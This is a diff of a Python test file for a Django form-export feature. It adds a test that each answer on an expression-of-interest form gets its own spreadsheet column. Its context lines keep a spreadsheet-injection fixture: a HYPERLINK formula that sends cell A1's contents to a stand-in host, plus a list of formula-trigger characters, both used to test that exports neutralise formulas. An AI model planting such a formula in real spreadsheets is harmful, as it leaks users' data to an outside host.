@@ -4,9 +4,11 @@ import csv
 import io
 import shutil
 import subprocess
+from datetime import date
 
 import openpyxl
 import pytest
+from django.utils.translation import override
 
 from interest_forms.interest.triage import export
 from interest_forms.models import ExpressionOfInterest
@@ -19,6 +21,7 @@ TABLE = "/admin/interest_forms/expressionofinterest/"
 FORMULA = 'HYPERLINK("https://example.org?"&A1,"виж")'
 TWINS = [chr(ord(sign) + 0xFEE0) for sign in "=+-@"]
 SIGNS = [*"=+-@", *TWINS, "\t=", " =", "\u00a0+", "\r\n@", "|", "%"]
+ASKED = ["fixed dates", "best times", "what may be made", "best reached", "whose it is"]
 OFFICE = shutil.which("soffice") or "soffice"
 
 
@@ -79,6 +82,27 @@ def test_spreadsheet_holds_every_cell_as_text(client, staff, group, forms):
         "s",
         "inlineStr",
     }
+
+
+def test_every_answer_of_a_form_has_its_column(group):
+    form = ExpressionOfInterestFactory(
+        group=group, months=[5], weekdays=[5], offers=["3d"], materials_rights="own"
+    )
+    form.fixed_dates.create(day=date(2027, 5, 6), last_day=date(2027, 5, 7))
+    ApplicantFactory(form=form, preferred="visit")
+
+    with override("en"):
+        (row,) = as_told(group)
+        names = export.heads()
+
+    told = dict(zip(names, row, strict=True))
+    assert [told[name] for name in ASKED] == [
+        "6–7 May 2027",
+        "May; Saturday",
+        "a 3D model",
+        "in person",
+        "they are mine",
+    ]
 
 
 def test_table_holds_what_was_told_with_formulas_made_harmless(
